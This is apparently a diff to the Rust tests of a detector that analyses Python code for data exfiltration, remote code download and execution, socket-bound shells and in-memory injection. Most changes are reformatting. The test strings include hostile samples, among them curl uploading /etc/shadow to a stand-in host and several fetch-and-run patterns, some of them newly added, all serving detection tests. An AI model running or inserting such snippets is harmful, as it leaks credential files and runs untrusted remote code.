@@ -55,7 +55,9 @@ fn every_client_sends() {
         let code = format!("import os, json\nE = json.dumps(dict(os.environ))\n{sink}\n");
         assert!(leaks(&code), "{sink}");
     }
-    let lowered = lower("import subprocess\nsubprocess.run(['curl', '-T', '/etc/shadow', 'https://x.example.com/'])\n");
+    let lowered = lower(
+        "import subprocess\nsubprocess.run(['curl', '-T', '/etc/shadow', 'https://x.example.com/'])\n",
+    );
     assert!(contacts(&lowered).iter().any(
         |operation| matches!(&operation.act, Act::Contact { payload, .. } if payload.origins.has(Origins::SENSITIVE))
     ));
@@ -63,7 +65,9 @@ fn every_client_sends() {
 
 #[test]
 fn hosts_are_told_although_the_path_is_not() {
-    let lowered = lower("import requests\nrequests.get(f'https://x.example.com/{q}/y')\nrequests.get(f'https://{h}/y')\n");
+    let lowered = lower(
+        "import requests\nrequests.get(f'https://x.example.com/{q}/y')\nrequests.get(f'https://{h}/y')\n",
+    );
     let texts: Vec<Option<&str>> = contacts(&lowered)
         .iter()
         .filter_map(|operation| match &operation.act {
@@ -76,16 +80,18 @@ fn hosts_are_told_although_the_path_is_not() {
 
 /// Where code or a command comes from that is run.
 fn run(code: &str) -> Origins {
-    lower(&format!("import os, subprocess, requests, socket\n{code}\n"))
-        .operations
-        .iter()
-        .filter_map(|operation| match &operation.act {
-            Act::Evaluate { code } => Some(code.origins),
-            Act::Execute { command, .. } => Some(command.origins),
-            Act::Import { module } => Some(module.origins),
-            _ => None,
-        })
-        .fold(Origins::NONE, Origins::with)
+    lower(&format!(
+        "import os, subprocess, requests, socket\n{code}\n"
+    ))
+    .operations
+    .iter()
+    .filter_map(|operation| match &operation.act {
+        Act::Evaluate { code } => Some(code.origins),
+        Act::Execute { command, .. } => Some(command.origins),
+        Act::Import { module } => Some(module.origins),
+        _ => None,
+    })
+    .fold(Origins::NONE, Origins::with)
 }
 
 #[test]
@@ -112,6 +118,9 @@ fn what_is_downloaded_and_run_is_told() {
         "subprocess.Popen(requests.get(u).text, shell=True)",
         "subprocess.run(['sh', '-c', requests.get(u).text])",
         "subprocess.run(['python3', '-c', requests.get(u).text])",
+        "import urllib.request as r, importlib\nr.urlretrieve(u, 'plug.py')\nimportlib.import_module('plug').go()",
+        "open('/tmp/u', 'wb').write(requests.get(u).content)\nsubprocess.run(['/tmp/u'])",
+        "import urllib.request as r\nr.urlretrieve(u, 'u.py')\nsubprocess.run(['python3', 'u.py'])",
         "code = subprocess.check_output(['curl', '-s', u])\nexec(code)",
     ] {
         assert!(run(code).has(Origins::NETWORK), "{code}");
@@ -140,7 +149,10 @@ fn sockets_on_shells_are_told() {
     ] {
         let lowered = lower(&format!("import os, subprocess, socket\n{code}\n"));
         assert!(
-            lowered.operations.iter().any(|operation| operation.act == Act::Rewire),
+            lowered
+                .operations
+                .iter()
+                .any(|operation| operation.act == Act::Rewire),
             "{code}"
         );
     }
@@ -159,7 +171,10 @@ fn code_in_memory_is_told() {
     ] {
         let lowered = lower(&format!("{code}\n"));
         assert!(
-            lowered.operations.iter().any(|operation| operation.act == Act::Inject),
+            lowered
+                .operations
+                .iter()
+                .any(|operation| operation.act == Act::Inject),
             "{code}"
         );
     }
@@ -170,7 +185,10 @@ fn code_in_memory_is_told() {
     ] {
         let lowered = lower(&format!("{code}\n"));
         assert!(
-            !lowered.operations.iter().any(|operation| operation.act == Act::Inject),
+            !lowered
+                .operations
+                .iter()
+                .any(|operation| operation.act == Act::Inject),
             "{code}"
         );
     }
